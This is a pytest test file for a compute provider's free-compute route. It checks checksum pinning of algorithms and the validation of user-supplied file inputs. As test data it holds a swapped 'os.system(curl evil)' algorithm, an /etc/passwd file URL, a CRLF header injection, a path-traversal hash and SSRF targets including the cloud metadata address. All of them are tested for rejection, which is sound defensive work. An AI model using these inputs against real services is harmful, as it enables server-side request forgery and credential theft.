"""Free compute (Ocean Node's freeCompute) takes what Ocean Node takes and runs it as a paid job
runs: a published algorithm is pinned at start exactly as a paid start pins it, and the
consumer's own files come as `fileObject` datasets and `algorithm.fileObject`. In process: the
provider's start over the /node route (real orders-free plan, moto, Batch behind the Stubber),
then the real runner's configure stage on the manifest the start wrote, fetching from a loopback
file server and moto S3, as a Batch job's first container does."""
from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any, Iterator

import pytest

from file_server import FileServer
from lifecycle_helpers import ALGORITHM_CODE, stubbed_provider
from test_node_protocol import RAW, free_body, free_environments, post, signed

CONTAINER = RAW["meta"]["container"]
CSV = b"a,b\n1,2\n3,4\n"
ALGORITHM = b"print('mine')\n"


@pytest.fixture
def files() -> Iterator[FileServer]:
    server = FileServer({"/data.csv": CSV, "/algo.py": ALGORITHM})
    yield server
    server.close()


def _provider(chain, monkeypatch, allow_raw: bool = True, **env: str):
    settings = {"FREE_COMPUTE_PUBLISHERS": chain.publisher.address,
                "NFT_FACTORIES": json.dumps({str(chain.chain_id): chain.contracts.ERC721Factory}), **env}
    return stubbed_provider(chain, monkeypatch, free_environments(chain), allow_raw=allow_raw, env=settings)


@pytest.fixture
def node(aws, chain, client, monkeypatch):
    """The provider with loopback fetches allowed (the file server), as `make run` has them."""
    with _provider(chain, monkeypatch, ALLOW_PRIVATE_NETWORKS="1") as (batch, published):
        yield chain, batch, published


@pytest.fixture
def sealed_node(aws, chain, client, monkeypatch):
    """The provider as deployed: no private, loopback or metadata-service address is fetched."""
    with _provider(chain, monkeypatch) as (batch, published):
        yield chain, batch, published


def raw_file(server: FileServer, path: str) -> dict[str, Any]:
    return {"type": "url", "url": server.url(path), "method": "get"}  # Ocean's CLI writes the method in lower case


def start(client, node, body: dict) -> dict:
    _, batch, _ = node
    batch.expect_new_definition()
    batch.expect_submit("batch-free")
    status, answer = post(client, "/freeCompute", body)
    assert status == 200, answer
    return answer[0]


def manifest(job_id: str) -> dict:
    """The job's manifest, opened with the job's own key (it is stored sealed)."""
    from chalicelib import aws, services
    from chalicelib.job_key import open_manifest
    from chalicelib.models import JobRecord

    body = aws.client("s3").get_object(Bucket=services.settings().bucket, Key=f"jobs/{job_id}/manifest.json")["Body"]
    return open_manifest(JobRecord.get(job_id).runner_key, job_id, body.read())


def configure(job_id: str, tmp_path: Path) -> tuple[int, list[dict], Path]:
    """The runner's configure stage on the job's manifest, as its Batch container runs it."""
    from chalicelib import services
    from chalicelib.job_key import ENVIRONMENT_VARIABLE
    from chalicelib.models import JobRecord
    from runner import configure as stage
    from runner.events import Emitter
    from runner.settings import Settings

    class Recorded(Emitter):
        def _send(self, detail: dict) -> bool:
            details.append(detail)
            return True

    details: list[dict] = []
    tmp_path.mkdir(parents=True, exist_ok=True)
    busybox = tmp_path / "busybox"
    busybox.write_bytes(b"#!/bin/sh\n")
    settings = Settings.from_env({
        "JOB_ID": job_id, "MANIFEST_URI": f"s3://{services.settings().bucket}/jobs/{job_id}/manifest.json",
        "DATA_DIR": str(tmp_path / "data"), "RUNNER_EVENTS": "stdout", "FETCH_TIMEOUT": "5",
        "C2D_REGION": "us-east-1", "BUSYBOX_SOURCE": str(busybox), "ALLOW_PRIVATE_NETWORKS": "1",
        ENVIRONMENT_VARIABLE: JobRecord.get(job_id).runner_key})
    code = stage.run(settings, Recorded(job_id))
    return code, details, tmp_path / "data"


def test_a_free_job_pins_the_published_algorithm_as_a_paid_start_does(client, node, files, tmp_path):
    """D3: the runner refused free jobs of published algorithms ("algorithm files have no
    checksums", 32): the free start now downloads and pins them exactly as a paid start does."""
    chain, _, published = node
    algorithm = {"documentId": published.algorithm.did, "serviceId": published.algorithm.serviceId}
    body = {**free_body(published, chain.consumer, algorithm=algorithm),
            "datasets": [{"fileObject": raw_file(files, "/data.csv")}]}
    job = start(client, node, body)
    pinned = manifest(job["jobId"])["algorithm"]
    assert pinned["did"] == published.algorithm.did
    assert pinned["checksums"] == [hashlib.sha256(ALGORITHM_CODE).hexdigest()]
    code, events, data = configure(job["jobId"], tmp_path)
    assert code == 0 and [e["status"] for e in events] == [20, 30, 40], events  # configure ends by handing over to the algorithm
    assert (data / "transformations" / "algorithm").read_bytes() == ALGORITHM_CODE


def test_raw_inputs_beside_published_ones_in_the_manifest_and_the_record(client, node, files):
    chain, _, published = node
    body = free_body(published, chain.consumer, algorithm={"fileObject": raw_file(files, "/algo.py"),
                                                           "meta": {"container": CONTAINER}})
    # Ocean's CLI sends documentId and serviceId "" beside a fileObject; a published dataset beside it
    body["datasets"] = [{"documentId": "", "serviceId": "", "fileObject": raw_file(files, "/data.csv"),
                         "userdata": {"rows": 2}}, body["datasets"][0]]
    job = start(client, node, body)
    assert files.hits == ["/algo.py"], "the start downloads the algorithm once, to pin it; inputs are the runner's"
    written = manifest(job["jobId"])
    raw, published_input = written["inputs"]
    assert raw == {"did": "raw-0", "serviceId": "", "userdata": {"rows": 2},
                   "files": [{"type": "url", "url": files.url("/data.csv"), "method": "GET"}]}
    assert published_input["did"] == published.dataset.did
    assert written["algorithm"]["did"] == ""
    assert written["algorithm"]["checksums"] == [hashlib.sha256(ALGORITHM).hexdigest()]
    from chalicelib import services

    record = services.job_service().find(chain.consumer.address, job["jobId"]).jobs[0]
    assert record.input_dids == ["raw-0", published.dataset.did] and record.chain_id == chain.chain_id
    assert record.orders == [] and job["agreementId"] == ""


def test_the_runner_fetches_raw_inputs_and_places_the_raw_algorithm_only_as_pinned(client, node, files, tmp_path):
    chain, _, published = node
    body = {**free_body(published, chain.consumer, algorithm={"fileObject": raw_file(files, "/algo.py"),
                                                              "meta": {"container": CONTAINER}}),
            "datasets": [{"fileObject": raw_file(files, "/data.csv")}]}
    job = start(client, node, body)
    record = manifest(job["jobId"])
    assert record["inputs"][0]["did"] == "raw-0"
    code, events, data = configure(job["jobId"], tmp_path / "first")
    assert code == 0, events
    assert (data / "inputs" / "raw-0" / "0").read_bytes() == CSV
    assert (data / "transformations" / "algorithm").read_bytes() == ALGORITHM
    assert json.loads(json.loads((data / "transformations" / "env.json").read_text())["DIDS"]) == ["raw-0"]
    # the server swaps the code after the start: the runner refuses it (32), as for a published one
    files.content["/algo.py"] = b"import os; os.system('curl evil')\n"
    code, events, data = configure(job["jobId"], tmp_path / "second")
    assert code == 32 and "does not match the checksum pinned at start" in events[-1]["reason"]
    assert not (data / "transformations" / "algorithm").exists()


def test_a_job_with_a_raw_input_stays_sealed(client, node, files):
    """Only if every dataset allows the network may the algorithm reach it: a raw input says nothing."""
    chain, batch, published = node
    body = free_body(published, chain.consumer, algorithm={"fileObject": raw_file(files, "/algo.py"),
                                                           "meta": {"container": CONTAINER}})
    body["datasets"] = [{"fileObject": raw_file(files, "/data.csv")}]
    start(client, node, body)
    assert batch.submitted[-1]["jobQueue"] == "ocean-c2d-cpu", "the sealed queue, not the network one"


def test_raw_inputs_need_no_free_compute_publisher_but_published_ones_still_do(client, node, files, monkeypatch):
    chain, _, published = node
    from test_node_protocol import _reread_settings

    monkeypatch.setenv("FREE_COMPUTE_PUBLISHERS", chain.other.address)
    _reread_settings()
    algorithm = {"fileObject": raw_file(files, "/algo.py"), "meta": {"container": CONTAINER}}
    mixed = free_body(published, chain.consumer, algorithm=algorithm)
    mixed["datasets"].append({"fileObject": raw_file(files, "/data.csv")})
    status, answer = post(client, "/freeCompute", mixed)
    assert (status, answer) == (400, {"error": {"dataset": "not_free_compute_dataset"}})
    assert files.hits == [], "a refused free start downloads nothing"
    own = {**free_body(published, chain.consumer, algorithm=algorithm), "datasets": [{"fileObject": raw_file(files, "/data.csv")}]}
    start(client, node, own)
    assert files.hits == ["/algo.py"]


@pytest.mark.parametrize("file_object, error", [
    ("0x04" + "ab" * 80, "an encrypted fileObject is not taken here"),
    ({"type": "s3", "bucket": "b", "objectKey": "k"}, "fileObject.type must be one of url, ipfs, arweave"),
    ({"type": "url", "url": "file:///etc/passwd", "method": "GET"}, "String should match pattern"),
    ({"type": "url", "url": "http://x/a", "method": "GET", "headers": {"X": "a\r\nHost: y"}}, "String should match pattern"),
    ({"type": "url", "url": "http://x/a", "encryptedBy": "0x1", "encryptMethod": "ECIES"}, "not supported by this provider"),
    ({"type": "ipfs", "hash": "QmX/../../etc"}, "must not contain . or .. segments"),
])
def test_raw_inputs_the_runner_could_not_fetch_safely_are_400(client, node, file_object, error):
    chain, _, published = node
    body = free_body(published, chain.consumer)
    body["datasets"] = [{"fileObject": file_object}]
    status, answer = post(client, "/freeCompute", body)
    assert status == 400 and error in json.dumps(answer), answer


def test_what_free_compute_refuses_around_file_objects(client, node, files):
    chain, _, published = node
    algorithm = {"fileObject": raw_file(files, "/algo.py"), "meta": {"container": CONTAINER}}
    both = free_body(published, chain.consumer, algorithm={**algorithm, "documentId": published.algorithm.did,
                                                           "serviceId": published.algorithm.serviceId})
    status, answer = post(client, "/freeCompute", both)
    assert status == 400 and "algorithm.documentId or algorithm.fileObject, not both" in json.dumps(answer)
    no_container = free_body(published, chain.consumer, algorithm={"fileObject": raw_file(files, "/algo.py")})
    status, answer = post(client, "/freeCompute", no_container)
    assert status == 400 and "algorithm.meta (its container) is required" in json.dumps(answer)
    twice = free_body(published, chain.consumer, algorithm={**algorithm, "meta": {**algorithm["meta"], "rawcode": "x"}})
    status, answer = post(client, "/freeCompute", twice)
    assert status == 400 and "in one place" in json.dumps(answer)
    dataset_both = free_body(published, chain.consumer, algorithm=algorithm)
    dataset_both["datasets"][0]["fileObject"] = raw_file(files, "/data.csv")
    status, answer = post(client, "/freeCompute", dataset_both)
    assert status == 400 and "or fileObject, not both" in json.dumps(answer)
    assert files.hits == []


def test_a_raw_algorithm_needs_the_datasets_leave_for_raw_code(client, chain, aws, monkeypatch, files):
    """The dataset's owner decides: a fileObject algorithm is a raw algorithm (allowRawAlgorithm)."""
    with _provider(chain, monkeypatch, ALLOW_PRIVATE_NETWORKS="1", allow_raw=False) as (_, published):
        body = free_body(published, chain.consumer, algorithm={"fileObject": raw_file(files, "/algo.py"),
                                                               "meta": {"container": CONTAINER}})
        status, answer = post(client, "/freeCompute", body)
        assert (status, answer) == (400, {"error": {"dataset": "no_raw_algo_allowed"}})
        assert files.hits == []


def test_paid_routes_refuse_raw_inputs_by_name(client, node, files):
    chain, _, published = node
    dataset = {"fileObject": raw_file(files, "/data.csv")}
    status, answer = post(client, "/compute", {**signed(chain.consumer, "startCompute"), "environment": "ocean-c2d-cpu",
                                               "datasets": [dataset], "algorithm": RAW})
    assert status == 400 and "taken by freeCompute only" in answer["errors"]["datasets"][0]
    status, answer = post(client, "/initializeCompute", {"datasets": [dataset], "algorithm": RAW, "environment": "ocean-c2d-cpu",
                                                         "consumerAddress": chain.consumer.address})
    assert status == 400 and "taken by freeCompute only" in answer["errors"]["datasets"][0]


@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data/iam/", "http://127.0.0.1:9/algo.py",
                                 "http://[::ffff:10.0.0.1]/algo.py"])
def test_a_raw_algorithm_file_is_fetched_under_every_downloads_network_rules(client, sealed_node, url):
    """The start's download of a fileObject algorithm is the same network-safe fetch as every
    other: no metadata service, loopback or private address, whoever names it."""
    chain, _, published = sealed_node
    body = free_body(published, chain.consumer, algorithm={"fileObject": {"type": "url", "url": url, "method": "GET"},
                                                           "meta": {"container": CONTAINER}})
    body["datasets"] = [{"fileObject": {"type": "url", "url": "https://data.example.org/mine.csv", "method": "GET"}}]
    status, answer = post(client, "/freeCompute", body)
    assert (status, answer) == (400, {"error": {"algorithm": "file_unavailable"}})
    assert "169.254" not in json.dumps(answer) and "127.0.0.1" not in json.dumps(answer)
